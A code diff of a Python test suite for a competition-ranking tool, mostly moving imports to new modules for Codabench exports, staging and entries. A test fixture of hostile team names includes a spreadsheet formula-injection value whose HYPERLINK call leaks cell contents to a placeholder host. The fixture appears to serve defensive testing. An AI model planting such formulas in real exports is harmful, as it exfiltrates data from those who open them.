@@ -21,9 +21,12 @@ from test_rank_submissions import (DEV, codabench_bulk, codabench_member, compil
 
 sys.path.insert(0, str(ROOT))
 import rank_submissions  # noqa: E402
+import ranking.codabench_export  # noqa: E402
+import ranking.descriptions  # noqa: E402
 import ranking.downloads  # noqa: E402
 import ranking.names  # noqa: E402
-from ranking.downloads import MAX_MEMBER_RATIO  # noqa: E402
+import ranking.staging  # noqa: E402
+from ranking.staging import MAX_MEMBER_RATIO  # noqa: E402
 
 HOSTILE_TEAMS = {
     "480": '=HYPERLINK("http://example.com/?"&A1,"click")',
@@ -39,7 +42,7 @@ HOSTILE_TEAMS = {
 }
 
 
-@pytest.mark.parametrize("module", [ranking.names, ranking.downloads])
+@pytest.mark.parametrize("module", [ranking.names, ranking.descriptions])
 def test_docstring_examples(module):
     failures, _ = doctest.testmod(module, optionflags=doctest.NORMALIZE_WHITESPACE)
     assert failures == 0
@@ -190,7 +193,7 @@ def test_a_teams_csv_with_a_bom(setup, tmp_path):  # noqa: F811
 # --- which submission is a team's row (no scoring needed) ---------------------------------------------
 
 def _scored(identifier: int, owner: str, value=None, problem: str = ""):
-    from ranking.downloads import Entry
+    from ranking.entries import Entry
     from ranking.scoring import Scored
 
     scored = Scored(Entry(str(identifier), owner, "bulk.zip", member="m%d" % identifier, platform_id=str(identifier),
@@ -273,12 +276,12 @@ def test_an_export_without_entries_is_one_line(setup, tmp_path, capsys, content)
 
 
 def test_an_oversized_csv_in_a_zip_export_is_named(tmp_path, monkeypatch):
-    monkeypatch.setattr(ranking.downloads, "MAX_EXPORT_MEMBER_BYTES", 100)
+    monkeypatch.setattr(ranking.codabench_export, "MAX_EXPORT_MEMBER_BYTES", 100)
     path = tmp_path / "results.zip"
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("Results - Test(77).csv", "Username,fact_sheet_answers\nalice_x-480,\n")
         archive.writestr("Results - Development(76).csv", "Username,fact_sheet_answers\n" + "bob-1,\n" * 50)
-    entries, warnings = ranking.downloads.read_results_export(str(path))
+    entries, warnings = ranking.codabench_export.read_results_export(str(path))
     assert [(e.owner, e.submission_id, e.phase) for e in entries] == [("alice_x", "480", "77")]
     assert len(warnings) == 1 and "Results - Development(76).csv skipped" in warnings[0]
 
@@ -311,7 +314,7 @@ def test_a_damaged_deflate_stream_is_one_line_naming_the_member(setup, tmp_path)
     work = tmp_path / "work"
     work.mkdir()
     with pytest.raises(KitError) as raised:
-        ranking.downloads.stage(entry, str(work))
+        ranking.staging.stage(entry, str(work))
     message = str(raised.value)
     assert message.startswith(member + ": cannot be unpacked from the download") and "\n" not in message
 
@@ -440,7 +443,7 @@ def test_the_paper_s_own_words_and_baselines_read_right():
     a baseline named as one is not marked twice; names break at most every 9 characters of a
     3.1 cm column, not every 6 of 2.4 cm."""
     from ranking import tables
-    from ranking.downloads import Entry
+    from ranking.entries import Entry
     from ranking.scoring import Scored
     for caption in tables.APPENDIX_CAPTIONS.values():
         assert "characters)" not in ranking.names.latex_text(caption, limit=len(caption))
